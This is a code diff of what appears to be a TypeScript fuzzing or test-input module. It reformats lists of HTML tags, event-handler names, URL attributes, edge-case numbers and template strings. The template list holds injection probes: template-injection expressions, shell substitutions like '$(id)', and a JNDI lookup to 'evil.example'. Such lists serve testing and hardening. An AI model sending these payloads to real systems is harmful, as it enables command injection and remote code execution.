@@ -1,22 +1,30 @@
 import { createChoices, SEED, type Choices } from '../seed.ts'
 
 const TAGS = (
-  'a abbr animate annotation-xml applet article audio b base bgsound body button canvas code custom-x details dialog div ' +
-  'embed font foreignObject form frame frameset h1 head html iframe image img input isindex keygen label li link listing ' +
-  'marquee math menu meta mglyph mtext noembed noframes noscript object option p picture plaintext portal pre q s script ' +
-  'section select set slot source span style summary svg table tbody td template textarea title track tr u ul use video x xmp'
+  'a abbr animate annotation-xml applet article audio b base bgsound body button canvas code custom-x details ' +
+  'dialog div ' +
+  'embed font foreignObject form frame frameset h1 head html iframe image img input isindex keygen label li link ' +
+  'listing ' +
+  'marquee math menu meta mglyph mtext noembed noframes noscript object option p picture plaintext portal pre q ' +
+  's script ' +
+  'section select set slot source span style summary svg table tbody td template textarea title track tr u ul ' +
+  'use video x xmp'
 ).split(' ')
 
 const EVENTS = (
-  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur oncanplay ' +
+  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur ' +
+  'oncanplay ' +
   'onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onend onerror onfocus onfocusin onformdata ' +
-  'ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter ' +
-  'onmouseover onmousewheel onpageshow onpaste onplay onpointerenter onpointermove onpopstate onrepeat onreset onresize ' +
+  'ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown ' +
+  'onmouseenter ' +
+  'onmouseover onmousewheel onpageshow onpaste onplay onpointerenter onpointermove onpopstate onrepeat onreset ' +
+  'onresize ' +
   'onscroll onscrollend onsearch onselect onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload onwheel'
 ).split(' ')
 
 const URL_ATTRIBUTES = (
-  'action background cite codebase content data dynsrc form formaction from href icon imagesrcset longdesc lowsrc manifest ' +
+  'action background cite codebase content data dynsrc form formaction from href icon imagesrcset longdesc ' +
+  'lowsrc manifest ' +
   'ping poster profile src srcdoc srcset style to usemap values xlink:href xml:base'
 ).split(' ')
 
@@ -321,20 +329,22 @@ const PROPERTIES = [
   'length'
 ]
 const NUMBERS = (
-  '0 -0 +0 0.0 1.00 1/2 1E2 1e+02 -1e-02 1/0 0/0 0x0 0xffffffff 0b101 0o17 1_000 1,000.00 1.000,00 01000 08 9007199254740993 ' +
-  '-9223372036854775808 18446744073709551616 2.2250738585072014e-308 1.7976931348623157e309 .5 5. -. 1.2.3 ١٢٣ １２３ ½ ² Ⅷ 一二三'
+  '0 -0 +0 0.0 1.00 1/2 1E2 1e+02 -1e-02 1/0 0/0 0x0 0xffffffff 0b101 0o17 1_000 1,000.00 1.000,00 01000 08 ' +
+  '9007199254740993 ' +
+  '-9223372036854775808 18446744073709551616 2.2250738585072014e-308 1.7976931348623157e309 .5 5. -. 1.2.3 ١٢٣ ' +
+  '１２３ ½ ² Ⅷ 一二三'
 ).split(' ')
 const TEMPLATES = [
   '{{ 7 * 7 }}',
   '{% include "x" %}',
-  '${7*7}',
+  '$' + '{7*7}',
   '#{7*7}',
   '<%= 7 * 7 %>',
   '{{constructor.constructor("return this")()}}',
-  '[[${7*7}]]',
+  '[[$' + '{7*7}]]',
   '$(id)',
   '`id`',
-  '${jndi:ldap://evil.example/x}',
+  '$' + '{jndi:ldap://evil.example/x}',
   '%{7*7}',
   '{{{raw}}}',
   '@{x}',
